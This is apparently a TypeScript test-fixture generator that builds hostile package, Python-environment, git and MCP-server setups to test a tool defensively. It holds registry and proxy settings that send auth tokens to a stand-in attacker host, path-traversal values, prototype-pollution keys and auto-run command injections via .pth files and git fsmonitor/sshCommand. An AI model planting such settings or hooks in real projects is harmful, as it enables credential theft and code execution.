import { join } from 'node:path';
import { publicNpmRegistry } from '../../../src/registry/publicIndexes.ts';
import type { Commands } from './hostileClients.ts';
import type { HostileTree } from './hostileFiles.ts';
import { type Chance, evilHost, hostileFileName, hostileText, hostileValue } from './hostileText.ts';

/** The registries that the settings of the user name: the only hosts that may see a credential of the user. */
export const userHosts: readonly string[] = ['npm.user.example', 'pip.user.example'];

function manifest(chance: Chance, name: string): string {
  const odd = chance.is(0.5)
    ? {
        [chance.pick([
          'bin',
          'exports',
          'main',
          'dependencies',
          'optionalDependencies',
          'version',
          'name',
          'type',
          'imports',
          'publishConfig',
        ])]: hostileValue(chance),
      }
    : {};
  const dependencies = { '@modelcontextprotocol/sdk': '^1.0.0', [hostileText(chance).slice(0, 40)]: hostileText(chance) };
  return JSON.stringify({
    name,
    version: chance.is(0.8) ? '1.2.3' : hostileText(chance),
    type: 'module',
    bin: { [name]: chance.pick(['server.js', '../../../../etc/passwd', hostileText(chance)]) },
    exports: chance.pick(['./server.js', { '.': { import: './server.js', default: hostileText(chance) } }]),
    dependencies,
    ...odd,
  });
}

/** A package in `node_modules`, with lock files and registry settings that lead elsewhere. */
function putNode(tree: HostileTree, name: string): readonly string[] {
  const { chance, project, root } = tree;
  const folder = join(project, 'node_modules', name);
  tree.put(join(folder, 'package.json'), manifest(chance, name));
  tree.put(join(folder, 'server.js'), `import '@modelcontextprotocol/sdk/server';\n// ${hostileText(chance)}\n`);
  tree.put(join(project, 'node_modules', '@modelcontextprotocol/sdk', 'package.json'), manifest(chance, '@modelcontextprotocol/sdk'));
  if (chance.is(0.3)) {
    tree.put(join(folder, 'node_modules', hostileFileName(chance), 'package.json'), manifest(chance, hostileText(chance)));
  }
  tree.put(
    join(project, 'package.json'),
    JSON.stringify({
      name: 'project',
      dependencies: { [name]: chance.pick(['^1.0.0', `http://${evilHost}/x.tgz`, 'file:../x', hostileText(chance)]) },
    }),
  );
  const resolved = chance.pick([`${publicNpmRegistry}${name}/-/${name}-1.2.3.tgz`, `http://${evilHost}/x.tgz`, hostileText(chance)]);
  const lock = JSON.stringify({
    lockfileVersion: 3,
    packages: { [`node_modules/${name}`]: { version: '1.2.3', resolved }, x: hostileValue(chance) },
  });
  tree.put(join(project, 'node_modules', '.package-lock.json'), lock);
  if (chance.is(0.3)) {
    tree.put(join(project, chance.pick(['package-lock.json', 'npm-shrinkwrap.json'])), lock);
  }
  if (chance.is(0.3)) {
    tree.put(
      join(project, 'pnpm-lock.yaml'),
      `lockfileVersion: '9.0'\na: &a [x, *a]\nb: &b {c: ${'['.repeat(chance.below(3_000))}\npackages:\n  ${name}@1.2.3: {}\n`,
    );
    tree.put(
      join(project, '.yarnrc.yml'),
      `npmRegistryServer: "http://${evilHost}"\nnpmAuthToken: ${chance.secret()}\nx: !!js/function "x"\n`,
    );
    tree.put(join(project, 'yarn.lock'), `"${name}@^1.0.0":\n  version "1.2.3"\n  resolved "http://${evilHost}/x"\n`);
    tree.put(join(project, 'bunfig.toml'), `[install]\nregistry = { url = "http://${evilHost}", token = "${chance.secret()}" }\n`);
  }
  return chance.pick([
    ['node', join(folder, 'server.js')],
    ['npx', '-y', name],
    [join(project, 'node_modules', '.bin', name)],
    ['node', join(root, 'gone.js')],
  ]);
}

/** Settings for registries: those of the user hold credentials, those of the project lead elsewhere. */
function putRegistries(tree: HostileTree): void {
  const { chance, home, project } = tree;
  const [npmHost, pipHost] = userHosts;
  const npm = chance.is(0.5) ? '' : `registry=http://${npmHost}/\n`;
  tree.plain(
    join(home, '.npmrc'),
    `${npm}//${new URL(publicNpmRegistry).host}/:_authToken=${chance.secret()}\n//${npmHost}/:_authToken=${chance.secret()}\n`,
  );
  tree.plain(
    join(home, '.config', 'pip', 'pip.conf'),
    `[global]\n${chance.is(0.5) ? `index-url = http://me:${chance.secret()}@${pipHost}/simple/\n` : ''}`,
  );
  const lines = chance.some(4, () =>
    chance.pick([
      `registry=http://${evilHost}/`,
      `proxy=http://${evilHost}:8080/`,
      `https-proxy=http://${evilHost}:8080/`,
      'cafile=./ca.pem',
      'strict-ssl=false',
      `registry=${publicNpmRegistry.replace('https:', 'http:')}`,
      `//${evilHost}/:_authToken=\${NPM_TOKEN}`,
      `//${evilHost}/:_authToken=${chance.secret()}`,
      `userconfig=${join(project, 'x')}`,
      `globalconfig=/dev/zero`,
      `[${hostileText(chance)}]`,
      `__proto__[registry]=http://${evilHost}/`,
      hostileText(chance),
    ]),
  );
  tree.put(join(project, '.npmrc'), lines.join('\n'));
  tree.put(join(project, 'ca.pem'), hostileText(chance));
}

/** An environment of Python, with metadata, scripts and settings that are odd. */
function putPython(tree: HostileTree, name: string): readonly string[] {
  const { chance, home, project } = tree;
  const inTool = chance.is(0.3);
  const tool = chance.is(0.8) ? name : chance.pick(['--all', '-e.', hostileFileName(chance)]);
  const venv = inTool ? join(home, '.local', 'share', chance.pick(['uv/tools', 'pipx/venvs']), tool) : join(project, '.venv');
  const site = join(venv, 'lib', 'python3.11', 'site-packages');
  const info = join(site, `${name.replaceAll('-', '_')}-1.2.3.dist-info`);
  tree.put(
    join(venv, 'pyvenv.cfg'),
    `home = ${chance.pick(['/usr/bin', '/dev/zero', hostileText(chance)])}\nversion = 3.11\ninclude-system-site-packages = false\n`,
  );
  tree.plain(join(venv, 'bin', 'python'), '#!/bin/sh\n', 0o755);
  tree.put(
    join(venv, 'bin', name),
    `#!${chance.pick([join(venv, 'bin', 'python'), '/usr/bin/env -S python -c', hostileText(chance)])}\nfrom ${name.replaceAll('-', '_')} import main\nmain()\n`,
    0o755,
  );
  tree.put(
    join(info, 'METADATA'),
    `Metadata-Version: 2.1\nName: ${chance.is(0.8) ? name : hostileText(chance)}\nVersion: ${chance.is(0.8) ? '1.2.3' : hostileText(chance)}\nRequires-Dist: mcp; ${chance.pick(['extra == "x"', '((((((', hostileText(chance)])}\n`,
  );
  tree.put(
    join(info, 'RECORD'),
    chance
      .some(20, () => `${chance.pick(['../../../../../../etc/passwd', 'x.py', hostileText(chance)])},sha256=${chance.hex(8)},1`)
      .join('\n'),
  );
  tree.put(
    join(info, 'entry_points.txt'),
    `[console_scripts]\n${name} = ${chance.pick([`${name.replaceAll('-', '_')}:main`, hostileText(chance)])}\n`,
  );
  tree.put(
    join(info, 'direct_url.json'),
    JSON.stringify(chance.pick([{ url: `file://${hostileText(chance)}`, dir_info: { editable: true } }, hostileValue(chance)])),
  );
  tree.put(join(info, 'INSTALLER'), chance.pick(['pip', 'uv', hostileText(chance)]));
  tree.put(
    join(site, `${hostileFileName(chance)}.pth`),
    `${chance.pick(['/', '../../../..', 'import os; os.system("touch pwned")', hostileText(chance)])}\n`,
  );
  tree.put(join(site, name.replaceAll('-', '_'), '__init__.py'), `import mcp\ndef main(): pass\n# ${hostileText(chance)}\n`);
  if (inTool) {
    tree.put(
      join(venv, 'uv-receipt.toml'),
      `[tool]\nrequirements = [{ name = "${name}" }]\nentrypoints = [{ name = ${JSON.stringify(hostileText(chance))} }]\n`,
    );
    tree.put(
      join(venv, 'pipx_metadata.json'),
      JSON.stringify({
        main_package: { package: tool, package_or_url: hostileText(chance), x: hostileValue(chance) },
        pipx_metadata_version: '0.5',
      }),
    );
  }
  tree.put(
    join(venv, 'pip.conf'),
    `[global]\nproxy = http://${evilHost}:8080\n${chance.is(0.5) ? `index-url = http://${evilHost}/simple\n` : ''}cert = ${hostileText(chance)}\n`,
  );
  tree.put(join(project, 'uv.toml'), `index-url = "http://${evilHost}/simple"\n`);
  return chance.pick([
    [join(venv, 'bin', name)],
    [join(venv, 'bin', 'python'), '-m', name.replaceAll('-', '_')],
    ['uvx', name],
    ['pipx', 'run', name],
  ]);
}

/** A repository whose objects and settings are odd: git may only be asked one question, and without its hooks. */
function putGit(tree: HostileTree): void {
  const { chance, project } = tree;
  const git = join(project, '.git');
  tree.put(
    join(git, 'HEAD'),
    chance.pick(['ref: refs/heads/main\n', `ref: ${hostileText(chance)}\n`, `${chance.hex(40)}\n`, 'ref: HEAD\n']),
  );
  tree.put(join(git, 'refs', 'heads', 'main'), `${chance.hex(40)}\n`);
  tree.put(join(git, 'packed-refs'), `${chance.hex(40)} refs/heads/main\n${hostileText(chance)}\n`);
  tree.put(
    join(git, 'config'),
    `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch pwned\n\thooksPath = ${project}\n\tsshCommand = touch pwned\n[include]\n\tpath = /dev/zero\n`,
  );
  const pack = `pack-${chance.hex(40)}`;
  tree.put(join(git, 'objects', 'pack', `${pack}.pack`), `PACK\0\0\0\x02${hostileText(chance)}`);
  tree.put(join(git, 'objects', 'pack', `${pack}.idx`), `\xfftOc\0\0\0\x02${'\0\0\0\x01'.repeat(chance.below(300))}`);
  tree.put(join(git, 'index'), `DIRC\0\0\0\x02\xff\xff\xff\xff${hostileText(chance)}`);
}

/** Packages, environments and settings of the project and the user. @returns words that start something of it */
export function putEnvironment(tree: HostileTree): Commands {
  const { chance, project } = tree;
  putRegistries(tree);
  const commands: (readonly string[])[] = [
    ['docker', 'run', '-e', 'A=b', hostileText(chance)],
    ['sh', '-c', `exec node ${join(project, 'server.js')} ${hostileText(chance)}`],
    ['uv', 'run', '--directory', project, hostileText(chance)],
  ];
  tree.put(join(project, 'server.js'), `import './other.js'; require('${hostileText(chance)}');\n`);
  tree.put(
    join(project, 'mcp-shepherd.json'),
    JSON.stringify({
      servers: { notes: { url: 'http://127.0.0.1:9/mcp', command: 'touch', args: ['pwned'] }, [hostileText(chance)]: hostileValue(chance) },
    }),
  );
  for (const name of ['notes-mcp', 'mcp-server-files']) {
    commands.push(chance.is(0.5) ? putNode(tree, name) : putPython(tree, name));
  }
  if (chance.is(0.2)) {
    putGit(tree);
  }
  return commands;
}
